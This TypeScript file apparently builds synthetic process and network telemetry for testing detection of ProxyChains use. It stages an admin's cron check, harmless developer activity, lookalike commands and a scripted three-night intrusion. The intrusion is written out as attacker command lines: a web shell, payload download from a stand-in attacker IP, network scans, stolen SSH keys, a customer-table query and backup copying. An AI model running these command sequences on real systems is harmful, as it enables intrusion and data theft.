/** Everybody who starts ProxyChains: an administrator's health check, an intruder, a developer, a tester. */
import { EVERY_DAY, HOUR_MS, MINUTE_MS, type Calendar } from './calendar';
import { ACCOUNTS, HOSTS, type Account } from './hosts';
import type { Process } from './process';
import type { Recorder } from './recorder';
import { openTerminal, runCommand, type Command } from './terminal';

const PROXYCHAINS = '/usr/bin/proxychains';
/** The proxy of the company; and the one that the intruder brought. */
const COMPANY_PROXY = '10.20.0.9';
const INTRUDER_PROXY = '203.0.113.77';

export function recordProxychainsStory(recorder: Recorder, calendar: Calendar): void {
  recordHealthCheck(recorder, calendar);
  recordIntruderOnWebServer(recorder, calendar);
  recordIntruderOnBuildServer(recorder, calendar);
  recordIntruderOnJumpHost(recorder, calendar);
  recordDeveloper(recorder, calendar);
  recordTester(recorder, calendar);
  recordNearMisses(recorder, calendar);
}

/** The noise: the same line of the same user every two hours, which one exception silences. */
function recordHealthCheck(recorder: Recorder, calendar: Calendar): void {
  const cron = recorder.daemon(HOSTS.jump, HOSTS.jump.cron);
  for (let atMs = calendar.startMs + 25 * MINUTE_MS; atMs < calendar.endMs; atMs += 2 * HOUR_MS) {
    const script = recorder.start(cron, {
      atMs: atMs - 60,
      executable: HOSTS.jump.shell,
      args: ['/bin/sh', '/home/mwagner/bin/partner-check'],
      user: ACCOUNTS.wagner,
      workingDirectory: '/home/mwagner',
      lifetimeMs: 3_000,
    });
    runThroughProxies(recorder, script, ['/usr/bin/curl', '-fsS', 'https://status.partner.example/health'], { atMs, proxy: COMPANY_PROXY });
  }
}

/** Night 1: the way in is a web shell; the first try of the chain is on the web server, as its own account. */
function recordIntruderOnWebServer(recorder: Recorder, calendar: Calendar): void {
  const php = recorder.daemon(HOSTS.web, '/usr/sbin/php-fpm8.2', ACCOUNTS.webServer);
  const nightMs = calendar.at(1, 16.2);
  const shell = recorder.start(php, {
    atMs: nightMs,
    executable: '/usr/bin/dash',
    args: ['sh', '-c', 'id;uname -a'],
    workingDirectory: '/var/www/html/uploads',
    lifetimeMs: 150,
  });
  runCommand(recorder, shell, ['/usr/bin/id'], nightMs + 20);
  recorder.changeFile(php, { action: 'creation', path: '/var/www/html/uploads/thumb.php', size: 1_284 }, nightMs - 4 * MINUTE_MS);
  const second = recorder.start(php, {
    atMs: nightMs + 6 * MINUTE_MS,
    executable: '/usr/bin/dash',
    args: ['sh', '-i'],
    workingDirectory: '/dev/shm',
  });
  const lines: readonly Command[] = [
    ['/usr/bin/curl', '-sk', '-o', '/dev/shm/.x', 'https://203.0.113.77/s'],
    ['/usr/bin/curl', '-sk', 'https://203.0.113.77/r?h=web-01'],
    ['/usr/bin/nc', '-zv', '10.20.0.31', '22'],
  ];
  for (const [index, line] of lines.entries()) {
    runThroughProxies(recorder, second, line, { atMs: nightMs + (7 + index * 9) * MINUTE_MS, proxy: INTRUDER_PROXY });
  }
  recorder.changeFile(second, { action: 'creation', path: '/dev/shm/.x', size: 48_120 }, nightMs + 8 * MINUTE_MS);
}

/** Night 2: with the key of the deployment account onto the build server, and from there a look at the network. */
function recordIntruderOnBuildServer(recorder: Recorder, calendar: Calendar): void {
  const nightMs = calendar.at(2, 15.4);
  const shell = openTerminal(recorder, { host: HOSTS.build, user: ACCOUNTS.deploy, atMs: nightMs, fromAddress: HOSTS.web.ip });
  runCommand(recorder, shell, ['/usr/bin/whoami'], nightMs + 9_000);
  runCommand(recorder, shell, ['/usr/bin/cat', '/home/deploy/.ssh/config'], nightMs + 40_000);
  const lines: readonly Command[] = [
    ['/usr/bin/nmap', '-sT', '-Pn', '-p', '22,443,5432', '10.20.0.0/24'],
    ['/usr/bin/curl', '-s', 'http://10.20.0.41:50013/sapcontrol'],
    ['/usr/bin/ssh', '-i', '/home/deploy/.ssh/id_ed25519', 'postgres@10.20.0.21'],
    ['/usr/bin/psql', '-h', '10.20.0.21', '-U', 'orders', '-c', 'select count(*) from customers'],
    ['/usr/bin/scp', '-P', '22', '/dev/shm/.x', 'root@10.20.0.21:/usr/local/lib/'],
  ];
  for (const [index, line] of lines.entries()) {
    runThroughProxies(recorder, shell, line, { atMs: nightMs + (4 + index * 11) * MINUTE_MS, proxy: INTRUDER_PROXY });
  }
}

/** Night 3: the administrator's own account, in the middle of the night, from the build server, with another command line. */
function recordIntruderOnJumpHost(recorder: Recorder, calendar: Calendar): void {
  const nightMs = calendar.at(3, 18.1);
  const shell = openTerminal(recorder, { host: HOSTS.jump, user: ACCOUNTS.wagner, atMs: nightMs, fromAddress: HOSTS.build.ip });
  runThroughProxies(recorder, shell, ['/usr/bin/ssh', 'root@10.20.0.41'], { atMs: nightMs + 2 * MINUTE_MS, proxy: INTRUDER_PROXY });
  runThroughProxies(recorder, shell, ['/usr/bin/rsync', '-a', 'root@10.20.0.21:/srv/backup/', '/dev/shm/b/'], {
    atMs: nightMs + 14 * MINUTE_MS,
    proxy: INTRUDER_PROXY,
  });
}

/** True and harmless: a developer fetches a package from a machine that has no way out of its own. Auditd Manager reports it. */
function recordDeveloper(recorder: Recorder, calendar: Calendar): void {
  const dayMs = calendar.at(2, 4.3);
  const shell = openTerminal(recorder, { host: HOSTS.legacy, user: ACCOUNTS.chen, atMs: dayMs, fromAddress: '10.20.4.44' });
  for (const [index, file] of ['liborders-2.4.1.tar.gz', 'liborders-2.4.1.tar.gz.asc'].entries()) {
    const line = ['/usr/bin/wget', '-q', `https://downloads.example.org/${file}`] as const;
    runThroughProxies(recorder, shell, line, { atMs: dayMs + (3 + index) * MINUTE_MS, proxy: COMPANY_PROXY });
  }
}

/** A tester's account with a hostile name: whatever puts this name into a query has to quote it. */
function recordTester(recorder: Recorder, calendar: Calendar): void {
  const dayMs = calendar.at(3, 5.2);
  const tester: Account = ACCOUNTS.hostile;
  const shell = openTerminal(recorder, { host: HOSTS.build, user: tester, atMs: dayMs, fromAddress: '10.20.4.51' });
  runThroughProxies(recorder, shell, ['/usr/bin/id'], { atMs: dayMs + 3 * MINUTE_MS, proxy: COMPANY_PROXY });
}

/** What looks like it and is not: another program's name, another action, another operating system, the name as an argument. */
function recordNearMisses(recorder: Recorder, calendar: Calendar): void {
  for (const day of EVERY_DAY) {
    const atMs = calendar.at(day, 6.6);
    const novak = openTerminal(recorder, { host: HOSTS.build, user: ACCOUNTS.novak, atMs, fromAddress: '10.20.4.62' });
    runCommand(recorder, novak, ['/usr/bin/proxychains4', 'curl', '-s', 'https://mirror.example.org/'], atMs + MINUTE_MS);
    runCommand(recorder, novak, ['/usr/bin/man', 'proxychains'], atMs + 2 * MINUTE_MS);
    runCommand(recorder, novak, ['/usr/bin/vim', '/etc/proxychains.conf'], atMs + 3 * MINUTE_MS);
    runCommand(recorder, novak, ['/usr/bin/ProxyChains', '--version'], atMs + 4 * MINUTE_MS);
    const terminal = recorder.daemon(HOSTS.mac, '/bin/zsh', ACCOUNTS.macUser);
    runCommand(recorder, terminal, ['/opt/homebrew/bin/proxychains', 'curl', 'https://example.org/'], atMs + 5 * MINUTE_MS);
  }
}

/** `proxychains` starts, opens the chain, and goes on as the program that it was given. */
function runThroughProxies(
  recorder: Recorder,
  shell: Process,
  line: Command,
  options: { readonly atMs: number; readonly proxy: string }
): void {
  const [executable, ...rest] = line;
  const program = executable.slice(executable.lastIndexOf('/') + 1);
  const { atMs, proxy } = options;
  const wrapper = recorder.start(shell, { atMs, executable: PROXYCHAINS, args: ['proxychains', program, ...rest] });
  recorder.fork(wrapper, atMs + 6);
  const carried = recorder.become(wrapper, { atMs: atMs + 12, executable, args: [program, ...rest], lifetimeMs: 2_400 });
  const localPort = 34_000 + (atMs % 25_000);
  recorder.connect(carried, { action: 'connection_attempted', address: proxy, port: 1080, localPort }, atMs + 60);
  recorder.connect(carried, { action: 'disconnect_received', address: proxy, port: 1080, localPort }, atMs + 2_300);
}
